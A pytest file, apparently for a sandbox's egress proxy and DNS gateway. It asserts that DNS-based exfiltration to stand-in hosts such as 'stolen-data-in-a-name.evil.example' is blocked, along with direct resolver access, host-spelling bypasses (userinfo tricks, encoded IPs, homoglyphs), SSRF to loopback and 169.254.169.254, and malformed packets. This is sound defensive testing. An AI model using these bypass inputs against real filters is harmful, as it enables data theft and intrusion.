"""Names and addresses in every spelling: what is not named is not reached, and no question leaves the host."""
import pytest

from attack import attack
from support import internet as internets


@pytest.mark.row("G7")
def test_a_name_that_is_not_allowed_does_not_exist_and_is_not_asked_for(net):
    done = attack(net, """
for kind in 1, 28, 16, 15, 5, 255, 65:
    told(f"denied {kind}", ask, "stolen-data-in-a-name.evil.example", kind)
    told(f"allowed {kind}", ask, "shop.example", kind)
told("tcp denied", lambda: ask("stolen-by-tcp.evil.example", 16, tcp=True))
told("tcp allowed", lambda: ask("shop.example", 1, tcp=True))
told("below", ask, "stolen-below.shop.example")
told("sister", ask, "stolenshop.example")
told("library", socket.getaddrinfo, "stolen-by-the-library.evil.example", 443)
told("txt", ask, "txt.example", 16)
""", "shop.example")
    said = done.said
    for kind in (1, 28, 16, 15, 5, 255, 65):
        assert said[f"denied {kind}"][:2] in ([3, 0], [5, 0], [4, 0]), (kind, said)
        assert said[f"allowed {kind}"][:2] == ([0, 1] if kind == 1 else [0, 0]) or said[f"allowed {kind}"][0] in (4, 5), (kind, said)
    assert said["denied 1"][:2] == said["below"][:2] == said["sister"][:2] == [3, 0]
    assert said["tcp denied"][1] == said["txt"][1] == 0 and said["tcp allowed"][:2] == [0, 1] and said["library"].startswith("gaierror")
    assert said["allowed 1"][2].startswith("198.18.1."), said
    assert not [name for _, name in net.dns_questions() if "stolen" in name or name == "txt.example"]
    assert done.reasons("stolen-data-in-a-name.evil.example") == {"not_allowed"}


@pytest.mark.row("G7")
def test_an_allowed_name_is_asked_for_when_something_connects_to_it_and_not_before(net):
    attack(net, "told('only asked', ask, 'only-asked.wild.example')", "*.wild.example")
    assert not [name for _, name in net.dns_questions() if name == "only-asked.wild.example"]
    attack(net, "told('connected', lambda: to('now-connected.wild.example', 443).close())\ntold('x', lambda: tls(to('now-connected.wild.example', 443), 'now-connected.wild.example'))", "*.wild.example")
    assert [name for _, name in net.dns_questions() if name == "now-connected.wild.example"] # the documented limit of a wildcard


@pytest.mark.row("G7")
def test_no_other_resolver_is_reached(net):
    said = attack(net, f"""
def udp(address, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(question("stolen-directly.evil.example"), (address, port))
        return sock.recv(100)
told("dnsmasq by udp", udp, "{internets.RESOLVER}", 53)
told("dnsmasq by tcp", lambda: to("{internets.RESOLVER}", 53).close())
told("dnsmasq by proxy", lambda: status(connect("{internets.RESOLVER}:53")))
told("google", udp, "8.8.8.8", 53)
told("dns over https", lambda: status(connect("8.8.8.8:443")))
""", "shop.example").said
    assert said["dnsmasq by udp"] == said["dnsmasq by tcp"] == said["google"] == "ENETUNREACH", said
    assert said["dnsmasq by proxy"] == said["dns over https"] == "403", said
    assert not [name for _, name in net.dns_questions() if "stolen" in name]


@pytest.mark.row("G7")
def test_malformed_questions_end_nothing(net):
    said = attack(net, r"""
def raw(data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.2)
        sock.sendto(data, (GATEWAY, 53))
        try:
            return len(sock.recv(4096))
        except TimeoutError:
            return "nothing"
head = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0)
bad = [b"", b"x", head, head + b"\xc0\x0c\0\1\0\1", head + b"\xff" * 300, head + b"\x3f" + b"a" * 10, question("shop.example", count=2), question("shop.example", flags=0x8100),
       question("shop.example", flags=0x7900), question(b"\x0cshop.example\0"), question(b"\4shop\7example"), head + b"\4shop\7exam\0le\0\0\1\0\1", question("a." * 127 + "a"), question("shop.example") + bytes(1000),
       os.urandom(500), os.urandom(65000)]
for n, data in enumerate(bad):
    told(f"bad {n}", raw, data)
for n, data in enumerate(bad):
    def by_tcp():
        with to(GATEWAY, 53) as sock:
            sock.sendall(struct.pack("!H", min(len(data), 65535)) + data)
            sock.shutdown(socket.SHUT_WR)
            return len(all_of(sock))
    told(f"tcp {n}", by_tcp)
told("afterwards", ask, "shop.example")
told("page", lambda: status(page(tls(to("shop.example", 443), "shop.example"), "shop.example")))
""", "shop.example").said
    assert said["afterwards"][:2] == [0, 1] and said["page"] == "200", said


# What a program may write where a host belongs; and "200" where that is the host that is allowed, by another spelling of the same name.
SPELLINGS = {
    "evil.example:443": "403", "shop.example.:443": "200", "SHOP.EXAMPLE:443": "200", "shop.example..:443": "4", ".shop.example:443": "4", "sub.shop.example:443": "403",
    "shop.example:0": "4", "shop.example:65536": "4", "shop.example:-1": "4", "shop.example:+443": "4", "shop.example: 443": "4", "shop.example:443:443": "4", "shop.example:": "4", "shop.example": "4",
    "shop.example:0443": "200", "shop.example:444": "403", "shop.example:22": "403", "shop.example:0x1bb": "4",
    "user@shop.example:443": "4", "shop.example@evil.example:443": "4", "user:shop.example@evil.example:443": "4", "shop.example%40evil.example:443": "4",
    "shop.example#evil.example:443": "4", "evil.example#shop.example:443": "4", "shop.example/evil.example:443": "4", "shop.example?evil.example:443": "4",
    "shop.example%00.evil.example:443": "4", "shop%2eexample:443": "4", "shop.example\\t.evil.example:443": "4", "*.example:443": "4", "*:443": "4", "-shop.example:443": "4",
    "shop。example:443": "4", "shоp.example:443": "4", "ｓhop.example:443": "4", "\\u0130:443": "4",
    # the address of shop.example itself, which is not named, in every spelling that inet_aton(3) reads
    "93.184.216.34:443": "403", "1572395042:443": "4", "0x5db8d822:443": "4", "0135.0270.0330.042:443": "4", "93.184.55330:443": "4", "93.12112930:443": "4", "093.184.216.34:443": "4", "93.184.216.34.:443": "4",
    "[2606:2800:220:1::34]:443": "403", "2606:2800:220:1::34:443": "4", "[::ffff:93.184.216.34]:443": "4", "[::ffff:5db8:d822]:443": "4", "[2606:2800:220:1::34%25lo]:443": "4", "[2606:2800:220:1::34%lo]:443": "4",
    "[2606:2800:0220:0001:0000::34]:443": "4", "[v1.x]:443": "4", "[]:443": "4", "[::1]:443": "4", "[shop.example]:443": "4", "[::]:443": "4",
    "127.0.0.1:8000": "4", "localhost:8000": "4", "127.1:8000": "4", "0:8000": "4", "0.0.0.0:8000": "4", "2130706433:8000": "4", "017700000001:8000": "4",
    "169.254.169.254:80": "4", "0xa9fea9fe:80": "4", "2852039166:80": "4", "0251.0376.0251.0376:80": "4", "[fd00:ec2::254]:80": "4", "[64:ff9b::a9fe:a9fe]:80": "4", "[::169.254.169.254]:80": "4",
    "198.18.0.1:3128": "4", "198.18.0.1:53": "4", "198.18.1.0:443": "4",
}


@pytest.mark.row("G14")
def test_no_spelling_of_a_host_leads_past_the_list(net):
    done = attack(net, f"""
for target in {list(SPELLINGS)!r}:
    told(target, lambda: status(proxy(b"CONNECT " + target.encode() + b" HTTP/1.1\\r\\nHost: " + target.encode() + b"\\r\\n\\r\\n", then=b"\\0")))
""", "shop.example:443")
    wrong = {target: word for target, word in done.said.items() if not word.startswith(SPELLINGS[target])}
    assert wrong == {}, wrong
    assert {one["name"] for one in done.network["connections"] if one["verdict"] not in ("refused",)} <= {"shop.example"}
    assert net.own_seen() == net.own_seen() and not [one for one in net.requests() if one["server"] in internets.NOT_PUBLIC and one["host"] == "x"]


@pytest.mark.row("G14")
def test_absolute_forms_and_socks_hear_the_same(net):
    targets = [target for target, word in SPELLINGS.items() if word.startswith("4") and target.isascii() and ":443" in target and len(target.split(":")) == 2]
    said = attack(net, f"""
def absolute(target):
    return status(proxy(b"GET http://" + target.encode() + b"/who HTTP/1.1\\r\\nHost: " + target.encode() + b"\\r\\n\\r\\n"))
def socks(target):
    host, _, port = target.rpartition(":")
    with to(GATEWAY, 3128) as sock:
        sock.sendall(b"\\5\\1\\0")
        if sock.recv(2) != b"\\5\\0":
            return "no"
        sock.sendall(b"\\5\\1\\0\\3" + bytes([len(host)]) + host.encode() + struct.pack("!H", int(port)))
        return sock.recv(10)[1]
def socks_address(kind, raw, port):
    with to(GATEWAY, 3128) as sock:
        sock.sendall(b"\\5\\1\\0")
        sock.recv(2)
        sock.sendall(b"\\5\\1\\0" + bytes([kind]) + raw + struct.pack("!H", port))
        return (sock.recv(10) or b"\\0\\xff")[1]
for target in {targets!r}:
    told("http " + target, absolute, target)
    if target.rpartition(":")[2].isdigit():
        told("socks " + target, socks, target)
told("good absolute", absolute, "shop.example")
told("good socks", socks, "shop.example:443")
for name, kind, raw, port in [("loopback", 1, socket.inet_aton("127.0.0.1"), 8000), ("metadata", 1, socket.inet_aton("169.254.169.254"), 80), ("public", 1, socket.inet_aton("93.184.216.34"), 443),
                              ("six", 4, socket.inet_pton(socket.AF_INET6, "::ffff:169.254.169.254"), 80), ("six loopback", 4, socket.inet_pton(socket.AF_INET6, "::1"), 8000)]:
    told("socks " + name, socks_address, kind, raw, port)
""", "shop.example").said
    assert said.pop("good absolute") == "200" and said.pop("good socks") == 0
    wrong = {name: word for name, word in said.items() if (word == 0 if name.startswith("socks ") else not str(word).startswith(("4", "b''")))}
    assert wrong == {}, wrong


@pytest.mark.row("G14")
def test_a_wildcard_matches_what_is_below_it_and_nothing_else(net):
    said = attack(net, """
for name in "a.wild.example", "b.a.wild.example", "wild.example", "evilwild.example", "wild.example.evil.example", "a.wild.example.evil.example", ".wild.example", "*.wild.example", "a..wild.example":
    told(name, lambda: status(proxy(f"CONNECT {name}:443 HTTP/1.1\\r\\n\\r\\n".encode(), then=b"\\0")))
    told("dns " + name, lambda: ask(name)[0] if ".." not in name and name[0] != "." else 3)
""", "*.wild.example").said
    good = {"a.wild.example", "b.a.wild.example"}
    assert {name for name, word in said.items() if word == "200"} == good, said
    assert {name for name, word in said.items() if word == 0} == {f"dns {name}" for name in good}, said


@pytest.mark.row("G14")
def test_a_name_that_looks_the_same_is_another_one(net):
    done = attack(net, """
told("homograph", lambda: status(connect("xn--pple-43d.example:443")))
told("in unicode", lambda: status(proxy("CONNECT аpple.example:443 HTTP/1.1\\r\\n\\r\\n".encode())))
told("as the library encodes it", socket.getaddrinfo, "аpple.example", 443)
told("itself", lambda: status(proxy(b"CONNECT apple.example:443 HTTP/1.1\\r\\n\\r\\n", then=b"\\0")))
""", "apple.example")
    assert done.said["homograph"] == "403" and done.said["in unicode"] == "400" and done.said["as the library encodes it"].startswith("gaierror") and done.said["itself"] == "200", done.said
    assert done.reasons("xn--pple-43d.example") == {"not_allowed"}


@pytest.mark.row("G14")
def test_deny_wins_over_everything(net, profiles):
    before = len(net.dns_questions())
    kw = profiles.make("denies", {"allow": ["*.wild.example"], "ceiling": ["shop.example"], "deny": ["b.a.wild.example", "shop.example"]})
    done = attack(net, """
told("a", lambda: status(proxy(b"CONNECT a.wild.example:443 HTTP/1.1\\r\\n\\r\\n", then=b"\\0")))
told("b", lambda: status(connect("b.a.wild.example:443")))
told("B", lambda: status(connect("B.A.Wild.Example.:443")))
told("dns", lambda: ask("b.a.wild.example")[0])
""", **kw)
    assert {name: done.said[name] for name in "abB"} == {"a": "200", "b": "403", "B": "403"}, done.said
    assert not [name for _, name in net.dns_questions()[before:] if name == "b.a.wild.example"]
    assert done.reasons("b.a.wild.example") == {"denied"}
